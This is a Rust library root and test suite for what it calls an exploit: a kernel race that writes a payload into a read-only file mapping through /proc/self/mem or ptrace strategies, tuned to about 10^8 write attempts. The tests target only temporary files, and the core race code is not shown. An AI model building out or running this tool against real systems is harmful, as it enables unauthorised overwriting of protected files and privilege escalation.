pub mod context;
pub mod logging;
pub mod mapping;
pub mod payload;
pub mod race;
pub mod stage;
pub mod util;

#[cfg(test)]
mod tests {
    use std::io::Write;

    use crate::logging as log;
    use crate::mapping::RoMap;
    use crate::race::poke::PtracePoke;
    use crate::race::selfmem::SelfMem;
    use crate::race::{self, RaceBudget, RaceError};
    use crate::{stage, util};

    use super::*;

    fn quick_budget() -> RaceBudget {
        RaceBudget {
            pressure_iters: 20_000,
            writer_passes: 1,
            retries_per_chunk: 300,
            advisory_window: 256,
        }
    }

    fn target_file(content: &[u8]) -> anyhow::Result<tempfile::NamedTempFile> {
        let mut file = tempfile::NamedTempFile::new()?;
        file.write_all(content)?;
        Ok(file)
    }

    #[test]
    fn selfmem_run_drains_both_budgets() -> anyhow::Result<()> {
        let file = target_file(&[b'A'; 32])?;
        let map = RoMap::open(file.path())?;
        let payload = [b'B'; 8];

        let mut strategy = SelfMem::new();
        let report = race::run(&map, 0, &payload, &quick_budget(), &mut strategy)?;

        assert_eq!(report.writer.attempts, 300);
        let pressure = report.pressure.expect("engine-hosted pressure report");
        assert_eq!(pressure.iterations, 20_000);

        // the backing descriptor must survive the whole racing phase
        assert!(map.fd_is_open());

        // success is probabilistic and needs a vulnerable kernel; the file
        // must still be intact either way
        let committed = stage::verify(file.path(), 0, &payload)?;
        log::debug(format!("selfmem committed: {committed}"));
        assert_eq!(std::fs::read(file.path())?.len(), 32);
        Ok(())
    }

    #[test]
    fn poke_run_drains_writer_budget() -> anyhow::Result<()> {
        let file = target_file(&[b'A'; 32])?;
        let map = RoMap::open(file.path())?;
        let payload = [b'B'; 8];

        let budget = RaceBudget {
            pressure_iters: 100_000,
            writer_passes: 1,
            retries_per_chunk: 200,
            advisory_window: 256,
        };

        let mut strategy = PtracePoke::new();
        let report = race::run(&map, 0, &payload, &budget, &mut strategy)?;

        assert_eq!(report.writer.attempts, 200);
        // the victim's in-process pressure counters are unobservable
        assert!(report.pressure.is_none());
        log::debug(format!("poke failures: {}", report.writer.failures));

        assert!(map.fd_is_open());
        let _ = stage::verify(file.path(), 0, &payload)?;
        Ok(())
    }

    #[test]
    fn already_committed_payload_stays_put() -> anyhow::Result<()> {
        // a file that already carries the payload verifies clean after a
        // run, racing the same bytes in twice changes nothing
        let file = target_file(b"BBBBBBBBAAAAAAAAAAAAAAAAAAAAAAAA")?;
        let map = RoMap::open(file.path())?;
        let payload = [b'B'; 8];

        let mut strategy = SelfMem::new();
        race::run(&map, 0, &payload, &quick_budget(), &mut strategy)?;
        drop(map);

        assert!(stage::verify(file.path(), 0, &payload)?);
        let tail = std::fs::read(file.path())?;
        assert_eq!(&tail[8..], &[b'A'; 24]);
        Ok(())
    }

    #[test]
    fn unaligned_payload_offsets_chunk_per_word() -> anyhow::Result<()> {
        let file = target_file(&[b'A'; 64])?;
        let map = RoMap::open(file.path())?;
        let payload = [b'B'; 20];

        let mut strategy = SelfMem::new();
        let report = race::run(&map, 4, &payload, &quick_budget(), &mut strategy)?;

        let chunks = payload.len().div_ceil(util::WORD) as u64;
        assert_eq!(report.writer.attempts, chunks * 300);
        Ok(())
    }

    #[test]
    fn writer_volume_multiplies_passes_chunks_retries() -> anyhow::Result<()> {
        let file = target_file(&[b'A'; 64])?;
        let map = RoMap::open(file.path())?;
        let payload = [b'B'; 20];

        let budget = RaceBudget {
            pressure_iters: 1_000,
            writer_passes: 7,
            retries_per_chunk: 50,
            advisory_window: 256,
        };

        let mut strategy = SelfMem::new();
        let report = race::run(&map, 0, &payload, &budget, &mut strategy)?;

        // the writer must keep cycling the chunk list for the whole run,
        // not drain a single burst per chunk
        let chunks = payload.len().div_ceil(util::WORD) as u64;
        assert_eq!(report.writer.attempts, 7 * chunks * 50);
        Ok(())
    }

    #[test]
    fn default_writer_volume_is_race_scale() {
        // per-chunk write volume of the defaults must stay at the order
        // the exploit was tuned for, ~10^8 attempts
        let budget = RaceBudget::default();
        assert_eq!(budget.writer_passes * budget.retries_per_chunk, 100_000_000);
    }

    #[test]
    fn empty_payload_is_a_setup_error() -> anyhow::Result<()> {
        let file = target_file(&[b'A'; 32])?;
        let map = RoMap::open(file.path())?;

        let mut strategy = SelfMem::new();
        let err = race::run(&map, 0, &[], &quick_budget(), &mut strategy).unwrap_err();
        assert!(matches!(err, RaceError::EmptyPayload));
        Ok(())
    }

    #[test]
    fn oversized_payload_is_a_setup_error() -> anyhow::Result<()> {
        let file = target_file(&[b'A'; 8])?;
        let map = RoMap::open(file.path())?;

        let mut strategy = SelfMem::new();
        let err = race::run(&map, 4, &[b'B'; 8], &quick_budget(), &mut strategy).unwrap_err();
        assert!(matches!(err, RaceError::PayloadOutOfRange { .. }));
        Ok(())
    }

    #[test]
    fn logging_levels_gate_on_context() {
        log::debug("should not print");
        context::access(|ctx| {
            ctx.log_level = log::LogLevel::Debug;
        });
        log::debug("should print");
        log::info("info");
        log::success("success");
        log::warn("warn");
        log::error("error");
        context::access(|ctx| {
            ctx.log_level = log::LogLevel::default();
        });
    }

    #[test]
    fn budgets_are_configuration() {
        context::access(|ctx| {
            ctx.budget.retries_per_chunk = 42;
        });
        let retries = context::access(|ctx| ctx.budget.retries_per_chunk);
        assert_eq!(retries, 42);
        context::access(|ctx| {
            ctx.budget = RaceBudget::default();
        });
    }
}
